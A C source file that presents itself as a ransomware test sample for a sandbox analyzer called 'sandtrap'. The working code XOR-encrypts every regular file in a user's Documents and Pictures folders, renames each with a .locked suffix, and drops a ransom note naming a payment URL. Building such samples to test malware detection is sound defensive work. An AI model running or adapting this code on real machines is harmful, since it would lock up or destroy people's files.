/* Ransomware: XOR-encrypts every regular file in the user Documents and Pictures, renames each to .locked and writes a ransom note.
 * Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
 * simulated internet, reserved addresses). Built into the build directory and copied
 * without the exec bit; never run it on a host, only through `sandtrap analyze`.
 */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static int lock_file(const char *path)
{
	unsigned char buf[4096];
	char locked[4200];
	int fd = open(path, O_RDWR);
	if (fd < 0)
		return -1;
	ssize_t n;
	off_t off = 0;
	while ((n = pread(fd, buf, sizeof(buf), off)) > 0) {
		for (ssize_t i = 0; i < n; i++)
			buf[i] ^= (unsigned char)(0x5a + i);
		if (pwrite(fd, buf, (size_t)n, off) != n)
			break;
		off += n;
	}
	close(fd);
	snprintf(locked, sizeof(locked), "%s.locked", path);
	return rename(path, locked);
}

int main(void)
{
	const char *dirs[] = {"/home/dmitchell/Documents", "/home/dmitchell/Pictures"};
	int count = 0;
	for (size_t d = 0; d < sizeof(dirs) / sizeof(dirs[0]); d++) {
		DIR *dir = opendir(dirs[d]);
		if (!dir)
			continue;
		struct dirent *e;
		char path[4096];
		while ((e = readdir(dir))) {
			if (e->d_name[0] == '.' || strstr(e->d_name, ".locked"))
				continue;
			snprintf(path, sizeof(path), "%s/%s", dirs[d], e->d_name);
			struct stat st;
			if (stat(path, &st) == 0 && S_ISREG(st.st_mode) && lock_file(path) == 0)
				count++;
		}
		closedir(dir);
	}
	FILE *note = fopen("/home/dmitchell/Documents/!!!_READ_ME_!!!.txt", "w");
	if (note) {
		fputs("Your documents are locked. Pay at http://decrypt.ransom.example\n", note);
		fclose(note);
	}
	printf("locked %d files\n", count);
	return 0;
}
